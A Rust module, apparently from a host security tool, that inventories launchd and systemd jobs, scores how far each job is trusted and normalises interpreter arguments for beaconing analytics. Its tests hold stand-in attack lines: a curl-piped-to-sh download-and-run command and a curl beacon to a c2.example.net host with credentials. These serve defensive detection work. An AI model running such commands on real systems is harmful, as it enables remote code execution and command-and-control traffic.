//! The jobs behind processes: every launchd job (plists in launchd's directories and inside app
//! bundles) and every systemd unit under `--root`, by label, with what decides how far the job
//! is trusted — where its plist lives, who can write the plist, the program and the script it
//! runs, and whether it wears an Apple label outside Apple's directories.
//!
//! Analytics judge a connection by the job that runs the program, not only by who signed the
//! binary: `/usr/bin/curl` is signed by Apple, a LaunchAgent in a user's home that runs it
//! every five minutes is not Apple's.

use std::collections::HashMap;
use std::path::Path;

use crate::launchd::calendar::SystemLocal;
use crate::launchd::job::{interpret, resolve_program, timer};
use crate::launchd::{
    candidates, job_dirs, parse_plist, read_plist, under_root, writable_by_non_root,
};

/// What the analytics need to know about one job.
#[derive(Debug, Clone, PartialEq)]
pub struct JobFacts {
    pub label: String,
    /// Plist or unit file, host path.
    pub file: String,
    /// launchwatch_launchd `domain`, or `systemd_vendor` / `systemd_admin` / `systemd_user`.
    pub domain: &'static str,
    pub program: Option<String>,
    pub arguments: Vec<String>,
    /// A non-root user can change what the job runs: its plist or unit, its program, a script
    /// named in its arguments, or a directory holding one of them.
    pub user_writable: bool,
    /// The plist or unit is owned by root.
    pub root_owned: bool,
    /// Timer period (launchd StartInterval / calendar / XPC activity).
    pub period: Option<i64>,
    /// A `com.apple.` label on a plist outside Apple's directories.
    pub masquerading: bool,
}

impl JobFacts {
    /// spec.md `job_class`, given the signer class of the program the job runs.
    pub fn class(&self, program_signer: Option<&str>) -> &'static str {
        if self.domain == "app_bundle" {
            return "app_bundle";
        }
        if self.user_writable || !self.root_owned {
            return "user";
        }
        match self.domain {
            "user_agent" | "systemd_user" => "user",
            "apple_daemon" | "apple_agent" => {
                let sealed = self.program.as_deref().is_some_and(in_sealed_system_path);
                match program_signer {
                    Some("apple") => "apple",
                    None | Some("unknown") if sealed => "apple",
                    _ => "third_party",
                }
            }
            "systemd_vendor" => "vendor",
            _ => "third_party",
        }
    }
}

/// Paths the OS seals or ships (SIP on macOS, the package manager on Linux).
fn in_sealed_system_path(p: &str) -> bool {
    ["/System/", "/usr/", "/bin/", "/sbin/", "/Library/Apple/"]
        .iter()
        .any(|prefix| p.starts_with(prefix))
        && !p.starts_with("/usr/local/")
}

/// Whether a label is Apple's by name.
pub fn is_apple_label(label: &str) -> bool {
    label.starts_with("com.apple.")
}

/// Every job under `root`, by label. Where two plists claim a label, the one launchd would
/// load first (system before user, Apple before third party) stays.
pub fn inventory(root: &Path, now: i64) -> HashMap<String, JobFacts> {
    let mut out: HashMap<String, JobFacts> = HashMap::new();
    if !root.is_dir() {
        return out;
    }
    let dirs = job_dirs(root);
    for c in candidates(root, &dirs, &[]) {
        let dir = &dirs[c.dir];
        let Ok(file) = read_plist(root, &c.path) else {
            continue;
        };
        let Ok(job) = parse_plist(&file.bytes).and_then(|v| interpret(&v)) else {
            continue;
        };
        let Some(label) = job.label.clone() else {
            continue;
        };
        let exists = |p: &str| p.starts_with('/') && under_root(root, p).exists();
        let program = resolve_program(&job, &c.path, &exists);
        let arguments = job.program_arguments.clone().unwrap_or_default();
        let facts = JobFacts {
            masquerading: is_apple_label(&label) && !dir.domain.starts_with("apple_"),
            user_writable: anything_user_writable(root, &c.path, program.as_deref(), &arguments),
            root_owned: file.uid == 0,
            period: timer(&job, now, &SystemLocal).0,
            domain: dir.domain,
            file: c.path.clone(),
            program,
            arguments,
            label: label.clone(),
        };
        out.entry(label).or_insert(facts);
    }
    for facts in systemd_units(root) {
        out.entry(facts.label.clone()).or_insert(facts);
    }
    out
}

/// The plist or unit, the program, and any absolute path among the arguments (the script an
/// interpreter runs): if a non-root user can change any of them, the job is theirs.
fn anything_user_writable(root: &Path, file: &str, program: Option<&str>, args: &[String]) -> bool {
    let writable = |p: &str| {
        p.starts_with('/')
            && under_root(root, p).exists()
            && writable_by_non_root(root, p).unwrap_or(false)
    };
    writable(file) || program.is_some_and(writable) || args.iter().skip(1).any(|a| writable(a))
}

/// systemd unit directories (relative to the root) and what a unit there is. /etc overrides
/// /run and /usr/lib, as systemd's own search order does, so it is read first.
const UNIT_DIRS: &[(&str, &str)] = &[
    ("etc/systemd/system", "systemd_admin"),
    ("etc/systemd/user", "systemd_admin"),
    ("usr/lib/systemd/system", "systemd_vendor"),
    ("lib/systemd/system", "systemd_vendor"),
    ("usr/lib/systemd/user", "systemd_vendor"),
];

/// Units a file is at most this large: a unit is a few hundred bytes.
const MAX_UNIT_BYTES: u64 = 256 * 1024;

fn systemd_units(root: &Path) -> Vec<JobFacts> {
    let mut dirs: Vec<(String, &'static str)> = UNIT_DIRS
        .iter()
        .map(|(d, domain)| (format!("/{d}"), *domain))
        .collect();
    if let Ok(homes) = std::fs::read_dir(root.join("home")) {
        let mut homes: Vec<_> = homes.flatten().collect();
        homes.sort_by_key(|e| e.file_name());
        for h in homes {
            dirs.push((
                format!(
                    "/home/{}/.config/systemd/user",
                    h.file_name().to_string_lossy()
                ),
                "systemd_user",
            ));
        }
    }
    let mut out = Vec::new();
    for (dir, domain) in dirs {
        let Ok(entries) = std::fs::read_dir(under_root(root, &dir)) else {
            continue;
        };
        let mut names: Vec<String> = entries
            .flatten()
            .filter(|e| e.file_type().is_ok_and(|t| t.is_file()))
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.ends_with(".service"))
            .collect();
        names.sort();
        for name in names {
            let path = format!("{dir}/{name}");
            let host = under_root(root, &path);
            let Ok(meta) = std::fs::metadata(&host) else {
                continue;
            };
            if meta.len() > MAX_UNIT_BYTES {
                continue;
            }
            let Ok(text) = std::fs::read_to_string(&host) else {
                continue;
            };
            let arguments = unit_exec_start(&text);
            let program = arguments.first().cloned();
            use std::os::unix::fs::MetadataExt;
            out.push(JobFacts {
                label: name.clone(),
                user_writable: anything_user_writable(root, &path, program.as_deref(), &arguments),
                root_owned: meta.uid() == 0,
                file: path,
                domain,
                program,
                arguments,
                period: None,
                masquerading: false,
            });
        }
    }
    out
}

/// The argv of a unit's first `ExecStart=` in `[Service]`, with systemd's prefix characters
/// (`-@:+!`) removed. Quoting is split as a shell would for plain double and single quotes.
pub fn unit_exec_start(text: &str) -> Vec<String> {
    let mut section = "";
    for line in text.lines() {
        let line = line.trim();
        if line.starts_with('[') && line.ends_with(']') {
            section = line;
            continue;
        }
        if section != "[Service]" {
            continue;
        }
        let Some(value) = line.strip_prefix("ExecStart=") else {
            continue;
        };
        let value = value.trim_start_matches(['-', '@', ':', '+', '!']);
        let args = split_words(value);
        if !args.is_empty() {
            return args;
        }
    }
    Vec::new()
}

fn split_words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut any = false;
    for c in s.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '"' | '\'') => {
                quote = Some(c);
                any = true;
            }
            (None, c) if c.is_whitespace() => {
                if any || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                    any = false;
                }
            }
            (None, c) => cur.push(c),
        }
    }
    if any || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Interpreters, shells and downloaders (`tables/data/interpreters.txt`).
const INTERPRETERS: &str = include_str!("../data/interpreters.txt");

/// Whether a program runs whatever it is told, by file name whoever built it (Apple's
/// `/usr/bin/python3`, Homebrew's, python.org's). A trailing version is ignored.
pub fn is_interpreter(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let names = INTERPRETERS
        .lines()
        .map(|l| l.split('#').next().unwrap_or("").trim())
        .filter(|l| !l.is_empty());
    for n in names {
        if n == name || (!base.is_empty() && n == base) {
            return true;
        }
    }
    false
}

/// The identity of a job that runs an interpreter: its label and what it runs, normalised so
/// that temporary paths, nonces and secrets do not split one job into many.
pub fn job_identity(label: &str, arguments: &[String]) -> String {
    let args = normalise_arguments(arguments);
    if args.is_empty() {
        format!("job:{label}")
    } else {
        format!("job:{label} {args}")
    }
}

/// Arguments as one stable string: temporary directories become `<tmp>`, UUIDs `<uuid>`, long
/// hex or base64 runs `<token>`, long digit runs `<n>`, URL credentials and query values and
/// the values of secret-looking options `<redacted>`.
pub fn normalise_arguments(arguments: &[String]) -> String {
    let mut out: Vec<String> = Vec::new();
    let mut redact_next = false;
    for a in arguments {
        if redact_next {
            out.push("<redacted>".into());
            redact_next = false;
            continue;
        }
        let lower = a.to_ascii_lowercase();
        if is_secret_option(&lower) {
            match a.split_once('=') {
                Some((k, _)) => out.push(format!("{k}=<redacted>")),
                None => {
                    out.push(a.clone());
                    redact_next = true;
                }
            }
            continue;
        }
        out.push(
            a.split(' ')
                .map(normalise_word)
                .collect::<Vec<_>>()
                .join(" "),
        );
    }
    out.join(" ")
}

fn is_secret_option(lower: &str) -> bool {
    let key = lower.split('=').next().unwrap_or(lower);
    key.starts_with('-')
        && [
            "pass", "token", "secret", "key", "auth", "cred", "cookie", "bearer",
        ]
        .iter()
        .any(|w| key.contains(w))
        || key == "-u"
        || key == "--user"
        || key == "-h"
        || key == "--header"
}

fn normalise_word(w: &str) -> String {
    // URL: drop credentials and query values, normalise the path.
    if let Some((scheme, rest)) = w.split_once("://") {
        let (authority, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, ""),
        };
        let authority = match authority.rsplit_once('@') {
            Some((_, host)) => format!("<redacted>@{host}"),
            None => authority.to_string(),
        };
        let (path, query) = match path.split_once('?') {
            Some((p, q)) => (p, Some(q)),
            None => (path, None),
        };
        let mut s = format!("{scheme}://{authority}{}", normalise_path(path));
        if let Some(q) = query {
            let keys: Vec<String> = q
                .split('&')
                .map(|kv| format!("{}=<v>", kv.split('=').next().unwrap_or("")))
                .collect();
            s.push('?');
            s.push_str(&keys.join("&"));
        }
        return s;
    }
    normalise_path(w)
}

fn normalise_path(w: &str) -> String {
    for tmp in [
        "/private/var/folders/",
        "/var/folders/",
        "/private/tmp/",
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
    ] {
        if w.starts_with(tmp) {
            let name = w.rsplit('/').next().unwrap_or("");
            return format!("<tmp>/{}", normalise_token(name));
        }
    }
    w.split('/')
        .map(normalise_token)
        .collect::<Vec<_>>()
        .join("/")
}

fn normalise_token(t: &str) -> String {
    let is_uuid = t.len() == 36
        && t.chars().enumerate().all(|(i, c)| {
            if [8, 13, 18, 23].contains(&i) {
                c == '-'
            } else {
                c.is_ascii_hexdigit()
            }
        });
    if is_uuid {
        return "<uuid>".into();
    }
    let digits = t.chars().filter(char::is_ascii_digit).count();
    if t.len() >= 16 && t.chars().all(|c| c.is_ascii_hexdigit()) && digits > 0 {
        return "<token>".into();
    }
    if t.len() >= 24
        && t.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-'))
        && digits > 0
        && t.chars().any(|c| c.is_ascii_uppercase())
    {
        return "<token>".into();
    }
    if t.len() >= 6 && t.chars().all(|c| c.is_ascii_digit()) {
        return "<n>".into();
    }
    t.to_string()
}

/// Trust multiplier of a job class (spec.md `job_class`): lower is more trusted. `None` for no
/// job, where the signer alone speaks.
pub fn job_multiplier(job_class: &str) -> Option<f64> {
    match job_class {
        "apple" => Some(0.2),
        "vendor" => Some(0.3),
        "third_party" => Some(0.7),
        "app_bundle" => Some(0.8),
        "user" => Some(1.1),
        _ => None,
    }
}

/// What the context multiplier of a row is made of.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Trust<'a> {
    pub signer_class: &'a str,
    pub notarized: bool,
    /// spec.md `job_class`; `none` without a job.
    pub job_class: &'a str,
    /// The program is an interpreter or downloader ([`is_interpreter`]).
    pub interpreter: bool,
    pub masquerading: bool,
}

/// The program's trust when an interpreter runs outside any job (cron, a shell script left
/// running): neither the binary's signer nor a job vouches for what it runs.
pub const INTERPRETER_WITHOUT_JOB: f64 = 0.8;

/// The signer-and-job multiplier (docs/job-trust.md): the weaker (higher) of the program's and
/// the job's. An interpreter's signature counts for nothing unless the job itself is the OS's
/// (Apple's sealed directories, a distribution's units); an Apple label worn elsewhere counts
/// against the job.
pub fn trust_multiplier(t: &Trust<'_>) -> f64 {
    let job = job_multiplier(t.job_class);
    let program = if t.interpreter {
        match (t.job_class, job) {
            ("apple" | "vendor", Some(j)) => j,
            (_, Some(_)) => 1.0,
            (_, None) => INTERPRETER_WITHOUT_JOB,
        }
    } else {
        crate::analytics::signer_multiplier(t.signer_class, t.notarized)
    };
    let m = job.map_or(program, |j| j.max(program));
    if t.masquerading {
        m.max(1.2)
    } else {
        m
    }
}

/// Whether a launchd timer may explain a period away: only a job nobody but root can change,
/// running a program signed by Apple or a Developer ID that is not an interpreter.
pub fn timer_may_explain(job: &JobFacts, signer_class: &str, interpreter: bool) -> bool {
    job.root_owned
        && !job.user_writable
        && !job.masquerading
        && !interpreter
        && matches!(signer_class, "apple" | "developer_id")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn interpreters_by_name_whoever_built_them() {
        for p in [
            "/usr/bin/curl",
            "/opt/homebrew/bin/python3.12",
            "/Library/Frameworks/Python.framework/Versions/3.12/bin/python3",
            "/usr/bin/osascript",
            "/bin/sh",
            "/usr/local/bin/perl5.34",
            "/usr/bin/env",
            "wget",
        ] {
            assert!(is_interpreter(p), "{p}");
        }
        for p in [
            "/usr/libexec/softwareupdated",
            "/Applications/X.app/Contents/MacOS/X",
            "/usr/bin/curlish",
            "",
        ] {
            assert!(!is_interpreter(p), "{p}");
        }
    }

    #[test]
    fn arguments_normalise_to_one_identity() {
        let a = normalise_arguments(&[
            "/usr/bin/curl".into(),
            "-s".into(),
            "-H".into(),
            "Authorization: Bearer abc".into(),
            "https://user:pw@c2.example.net/beat?id=8f14e45fceea167a5a36dedd4bea2543&t=1733000000"
                .into(),
            "-o".into(),
            "/private/var/folders/zz/abc123/T/tmp.XyZ12".into(),
        ]);
        assert_eq!(
            a,
            "/usr/bin/curl -s -H <redacted> https://<redacted>@c2.example.net/beat?id=<v>&t=<v> -o <tmp>/tmp.XyZ12"
        );
        let b = normalise_arguments(&[
            "/bin/sh".into(),
            "-c".into(),
            "curl -s https://x.example/p/3fa85f64-5717-4562-b3fc-2c963f66afa6 | sh".into(),
        ]);
        assert_eq!(b, "/bin/sh -c curl -s https://x.example/p/<uuid> | sh");
        assert_eq!(
            normalise_arguments(&[
                "--token=s3cr3tT0kenValue".into(),
                "--api-key".into(),
                "k".into()
            ]),
            "--token=<redacted> --api-key <redacted>"
        );
        assert_eq!(job_identity("com.x", &[]), "job:com.x");
    }

    #[test]
    fn unit_exec_start_reads_the_service_section() {
        let unit = "[Unit]\nExecStart=/wrong\n[Service]\nType=simple\nExecStart=-/usr/bin/python3 \"/opt/my agent/run.py\" --every 300\n";
        assert_eq!(
            unit_exec_start(unit),
            ["/usr/bin/python3", "/opt/my agent/run.py", "--every", "300"]
        );
        assert!(unit_exec_start("[Service]\nType=oneshot\n").is_empty());
    }

    fn facts(
        domain: &'static str,
        root_owned: bool,
        user_writable: bool,
        program: &str,
    ) -> JobFacts {
        JobFacts {
            label: "x".into(),
            file: "/x.plist".into(),
            domain,
            program: Some(program.into()),
            arguments: vec![],
            user_writable,
            root_owned,
            period: None,
            masquerading: false,
        }
    }

    #[test]
    fn job_classes_follow_where_and_who() {
        let c = |d, r, w, p: &str, s| facts(d, r, w, p).class(s);
        assert_eq!(
            c("apple_daemon", true, false, "/usr/libexec/x", Some("apple")),
            "apple"
        );
        assert_eq!(
            c("apple_daemon", true, false, "/usr/libexec/x", None),
            "apple"
        );
        assert_eq!(
            c("apple_daemon", true, false, "/opt/x", Some("adhoc")),
            "third_party"
        );
        assert_eq!(
            c("system_daemon", true, false, "/opt/x", Some("developer_id")),
            "third_party"
        );
        assert_eq!(
            c("system_daemon", true, true, "/opt/x", Some("developer_id")),
            "user"
        );
        assert_eq!(
            c("system_agent", false, false, "/opt/x", Some("developer_id")),
            "user"
        );
        assert_eq!(
            c("user_agent", true, false, "/usr/bin/curl", Some("apple")),
            "user"
        );
        assert_eq!(
            c(
                "app_bundle",
                false,
                true,
                "/Applications/A.app/x",
                Some("adhoc")
            ),
            "app_bundle"
        );
        assert_eq!(
            c("systemd_vendor", true, false, "/usr/sbin/x", None),
            "vendor"
        );
        assert_eq!(
            c("systemd_admin", true, false, "/usr/sbin/x", None),
            "third_party"
        );
        assert_eq!(c("systemd_user", false, true, "/usr/bin/x", None), "user");
    }

    #[test]
    fn linux_units_take_their_class_from_where_they_live() {
        let t = tempfile::tempdir().unwrap();
        let unit = |dir: &str, name: &str, exec: &str| {
            let d = t.path().join(dir);
            std::fs::create_dir_all(&d).unwrap();
            std::fs::write(d.join(name), format!("[Service]\nExecStart={exec}\n")).unwrap();
        };
        unit("usr/lib/systemd/system", "ssh.service", "/usr/sbin/sshd -D");
        unit(
            "etc/systemd/system",
            "agent.service",
            "/opt/agent/bin/agent --every 60",
        );
        unit(
            "home/bob/.config/systemd/user",
            "sync.service",
            "/usr/bin/curl -s https://x.example/",
        );
        // /etc overrides the vendor's copy of the same unit.
        unit("usr/lib/systemd/system", "agent.service", "/usr/bin/true");
        let jobs = inventory(t.path(), 0);
        let class = |l: &str| jobs[l].class(None);
        assert_eq!(class("ssh.service"), "vendor");
        assert_eq!(class("agent.service"), "third_party");
        assert_eq!(
            jobs["agent.service"].program.as_deref(),
            Some("/opt/agent/bin/agent")
        );
        assert_eq!(class("sync.service"), "user");
        assert_eq!(jobs["sync.service"].arguments[0], "/usr/bin/curl");
    }

    #[test]
    fn a_user_job_is_never_trusted_more_than_an_unsigned_program() {
        let unsigned = trust_multiplier(&Trust {
            signer_class: "unsigned",
            notarized: false,
            job_class: "none",
            interpreter: false,
            masquerading: false,
        });
        for signer in [
            "apple",
            "app_store",
            "developer_id",
            "adhoc",
            "unsigned",
            "other",
        ] {
            for interpreter in [false, true] {
                let m = trust_multiplier(&Trust {
                    signer_class: signer,
                    notarized: true,
                    job_class: "user",
                    interpreter,
                    masquerading: false,
                });
                assert!(m >= unsigned, "{signer} {interpreter}: {m}");
            }
        }
        // Apple's curl run by a third-party daemon earns nothing from Apple's signature.
        let curl = Trust {
            signer_class: "apple",
            notarized: false,
            job_class: "third_party",
            interpreter: true,
            masquerading: false,
        };
        assert_eq!(trust_multiplier(&curl), 1.0);
        // Apple's own job running Apple's shell stays trusted.
        assert_eq!(
            trust_multiplier(&Trust {
                job_class: "apple",
                ..curl
            }),
            0.2
        );
        // A masquerading label never lowers anything.
        assert_eq!(
            trust_multiplier(&Trust {
                job_class: "apple",
                masquerading: true,
                ..curl
            }),
            1.2
        );
    }
}
